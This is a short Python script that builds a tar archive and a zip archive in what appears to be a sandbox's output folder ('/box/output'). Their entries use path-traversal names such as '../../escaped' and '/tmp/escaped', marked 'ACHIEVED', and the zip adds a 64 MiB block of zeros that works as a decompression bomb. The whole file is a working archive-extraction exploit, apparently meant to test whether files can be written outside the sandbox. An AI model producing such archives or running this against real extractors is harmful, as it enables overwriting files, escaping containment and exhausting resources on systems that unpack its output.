import io
import tarfile
import zipfile

with tarfile.open("/box/output/answer.tar", "w") as archive:
    for name in ["../../escaped", "/tmp/escaped", "link/../../escaped"]:
        entry = tarfile.TarInfo(name)
        entry.size = 8
        archive.addfile(entry, io.BytesIO(b"ACHIEVED"))
with zipfile.ZipFile("/box/output/answer.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../../escaped", "ACHIEVED")
    archive.writestr("bomb", b"\0" * (64 << 20))
